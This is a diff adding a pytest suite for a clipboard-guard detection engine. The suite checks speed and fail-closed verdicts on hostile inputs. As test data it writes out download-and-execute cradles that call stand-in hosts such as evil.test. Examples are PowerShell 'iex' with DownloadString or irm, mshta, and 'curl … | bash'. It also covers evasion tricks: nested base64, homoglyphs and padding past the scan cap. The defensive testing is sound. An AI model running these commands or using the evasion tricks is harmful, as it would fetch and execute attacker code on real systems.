@@ -1,0 +1,227 @@
+"""Hostile inputs: text made to stall or crash the engine must be analysed within 100 ms.
+
+The guard computes its verdict when the clipboard changes; a page that can make analysis slow
+can make the guard late, and an analysis that gives up must never look clean (fail closed).
+"""
+
+from __future__ import annotations
+
+import base64
+import random
+import time
+from collections.abc import Callable
+
+import pytest
+
+from app.detection import Engine, Level, Verdict
+
+MiB = 1024 * 1024
+TARGET_S = 0.100  # issue 2: any input up to 1 MiB within 100 ms, including hostile ones
+RUNS = 3
+INCOMPLETE = "PG-ENGINE-INCOMPLETE"
+
+CRADLE = (
+    'powershell -nop -w hidden -c "iex (New-Object Net.WebClient)'
+    ".DownloadString('http://evil{n}.test/a.ps1')\""
+)
+
+
+def nest_base64(text: str, times: int) -> str:
+    for _ in range(times):
+        text = base64.b64encode(text.encode()).decode()
+    return text
+
+
+def fill(unit: str, size: int = MiB) -> str:
+    return (unit * (size // len(unit) + 1))[:size]
+
+
+def _nested_cradles() -> str:
+    """About 1 MiB of distinct PowerShell cradles, each base64-encoded 10 times over."""
+    blobs: list[str] = []
+    size = 0
+    n = 0
+    while size < MiB:
+        blob = nest_base64(CRADLE.format(n=n), 10)
+        blobs.append(blob)
+        size += len(blob) + 1
+        n += 1
+    return "\n".join(blobs)[:MiB]
+
+
+def _urls() -> str:
+    return " ".join(f"https://h{i}.ex/{i}" for i in range(40_000))  # 0.9 MiB
+
+
+def _random_ascii() -> str:
+    rng = random.Random(2)
+    return "".join(rng.choices([chr(c) for c in range(32, 127)], k=MiB))
+
+
+def _random_unicode() -> str:
+    """Any code point except surrogates, with bidi controls and combining marks thrown in."""
+    rng = random.Random(3)
+    pool = [chr(rng.randrange(0x20, 0x110000)) for _ in range(6000)]
+    pool = [c for c in pool if not 0xD800 <= ord(c) <= 0xDFFF]
+    pool += [chr(c) for c in range(0x300, 0x370)] * 8  # combining diacritical marks
+    pool += list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f") * 40
+    return "".join(rng.choices(pool, k=MiB))
+
+
+# cmd variables and PowerShell's format operator are expanded statically; one short reference
+# can stand for 200 characters, and a format string repeats its arguments up to 40 times.
+FORMAT_BOMB = '("' + "{0}" * 40 + "\" -f '" + "%x%" * 26 + "')"
+
+
+def _expansion_bomb(size: int = MiB) -> str:
+    return "set x=" + "A" * 200 + "&&" + fill("%x%", size - 208)
+
+
+def _format_bomb(size: int = MiB) -> str:
+    return "set x=" + "A" * 200 + "&&" + fill(FORMAT_BOMB + ";", size - 208)
+
+
+HOSTILE: dict[str, Callable[[], str]] = {
+    "carets": lambda: fill("^"),
+    "parentheses": lambda: fill("("),
+    "backticks": lambda: fill("`"),
+    "double quotes": lambda: fill('"'),
+    "single quotes": lambda: fill("'"),
+    "zero-width spaces": lambda: fill("\u200b"),
+    "NUL bytes": lambda: fill("\x00"),
+    "base64 nested 10 deep": lambda: nest_base64(CRADLE.format(n=0), 10),
+    "1 MiB of base64 nested 10 deep": _nested_cradles,
+    "40,000 URLs": _urls,
+    "random printable ASCII": _random_ascii,
+    "random Unicode, bidi, combining": _random_unicode,
+    "one line of A": lambda: fill("A"),
+    "powershell -enc": lambda: fill("powershell -enc "),
+    "set a=b&&": lambda: fill("set a=b&&"),
+    "nested $( ( [ {": lambda: fill("$( ( [ {"),
+    "homoglyph command words": lambda: fill("сurl "),  # Cyrillic с
+    "Unicode spaces in a command": lambda: fill("curl\u2003"),
+    "set variable expansion": _expansion_bomb,
+    "format operator of variables": _format_bomb,
+}
+
+
+def best_of(engine: Engine, text: str, runs: int = RUNS) -> tuple[float, Verdict]:
+    best = float("inf")
+    verdict: Verdict | None = None
+    for _ in range(runs):
+        started = time.perf_counter()
+        verdict = engine.analyze(text)
+        best = min(best, time.perf_counter() - started)
+    assert verdict is not None
+    return best, verdict
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _warm(engine: Engine) -> None:
+    engine.analyze(nest_base64(CRADLE.format(n=0), 2))
+
+
+@pytest.mark.parametrize("name", list(HOSTILE))
+def test_hostile_input_is_analysed_within_100_ms(engine: Engine, name: str) -> None:
+    text = HOSTILE[name]()
+    assert len(text) <= MiB
+    seconds, verdict = best_of(engine, text)
+    assert isinstance(verdict, Verdict) and isinstance(verdict.level, Level)
+    assert verdict.summary.strip()
+    if not verdict.complete:
+        assert verdict.level >= Level.SUSPICIOUS and INCOMPLETE in verdict.rule_ids
+    assert seconds <= TARGET_S, f"{name}: best of {RUNS} runs took {seconds * 1000:.1f} ms"
+
+
+@pytest.mark.parametrize("make", [_expansion_bomb, _format_bomb], ids=["variables", "format"])
+def test_a_small_expansion_bomb_is_analysed_within_100_ms(
+    engine: Engine, make: Callable[[int], str]
+) -> None:
+    # A few KiB that expand to megabytes when variables are substituted: the expansion must be
+    # bounded, or any web page can make the guard late.
+    text = make(4096)
+    seconds, verdict = best_of(engine, text)
+    largest = max(len(layer.text) for layer in verdict.layers)
+    assert seconds <= TARGET_S, (
+        f"{len(text)} characters took {seconds * 1000:.1f} ms; largest layer {largest} characters"
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param(fill("Meeting notes: the budget was approved. ", 3 * MiB), id="3 MiB prose"),
+        pytest.param(fill("A", 3 * MiB), id="3 MiB of A"),
+        pytest.param(
+            fill(" ", 3 * MiB - 100) + "mshta https://evil.test/a.hta", id="3 MiB padding"
+        ),
+        pytest.param(fill("\n", 2 * MiB) + "curl https://evil.test/x | sh", id="2 MiB newlines"),
+    ],
+)
+def test_text_beyond_the_cap_is_incomplete_and_never_clean(engine: Engine, text: str) -> None:
+    # Whatever lies past the first MiB is never read, so the verdict cannot vouch for it.
+    verdict = engine.analyze(text)
+    assert verdict.complete is False
+    assert verdict.level >= Level.SUSPICIOUS
+    assert INCOMPLETE in verdict.rule_ids
+
+
+def test_bytes_beyond_the_cap_are_incomplete_and_never_clean(engine: Engine) -> None:
+    verdict = engine.analyze(fill("harmless words ", 3 * MiB).encode())
+    assert verdict.complete is False
+    assert verdict.level >= Level.SUSPICIOUS
+    assert INCOMPLETE in verdict.rule_ids
+
+
+@pytest.mark.parametrize("times", [5, 6, 10])
+@pytest.mark.parametrize(
+    "text", [CRADLE.format(n=1), "echo a friendly note about the weekly meeting"]
+)
+def test_text_encoded_more_than_4_times_is_incomplete_and_never_clean(
+    engine: Engine, text: str, times: int
+) -> None:
+    verdict = engine.analyze(nest_base64(text, times))
+    assert verdict.complete is False
+    assert verdict.level >= Level.SUSPICIOUS
+    assert INCOMPLETE in verdict.rule_ids
+
+
+@pytest.mark.parametrize("times", [1, 2, 3, 4])
+def test_a_cradle_encoded_up_to_4_times_is_decoded_and_found(engine: Engine, times: int) -> None:
+    plain = engine.analyze(CRADLE.format(n=1))
+    payload_rules = set(plain.rule_ids)
+    assert payload_rules, "the cradle itself must be found"
+    verdict = engine.analyze(nest_base64(CRADLE.format(n=1), times))
+    assert verdict.complete is True
+    assert verdict.level >= Level.SUSPICIOUS
+    assert payload_rules & set(verdict.rule_ids)
+
+
+HARMLESS_LINE = (
+    "Meeting notes, 3 March: the budget for the new office chairs was approved. "
+    "Anna books the room for Thursday; please bring your laptops.\n"
+)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        'powershell -w hidden -c "iex(irm https://evil.test/a.ps1)"',
+        "mshta https://evil.test/verify.hta",
+        "curl -fsSL https://evil.test/install.sh | bash",
+        'conhost --headless powershell -c "iwr http://1.2.3.4/x.ps1 | iex"',
+    ],
+)
+def test_a_payload_after_900_kib_of_harmless_text_is_still_found(
+    engine: Engine, payload: str
+) -> None:
+    padding = fill(HARMLESS_LINE, 900 * 1024)
+    alone = engine.analyze(payload)
+    assert alone.level >= Level.SUSPICIOUS
+    # The padding alone is already 'suspicious' (too long to decode fully); the payload must
+    # add its own findings, not ride on that.
+    padding_rules = set(engine.analyze(padding).rule_ids)
+    verdict = engine.analyze(padding + "\n" + payload)
+    assert verdict.level >= Level.SUSPICIOUS
+    found = set(verdict.rule_ids) - padding_rules
+    assert found & set(alone.rule_ids), f"payload findings {alone.rule_ids}, got {verdict.rule_ids}"
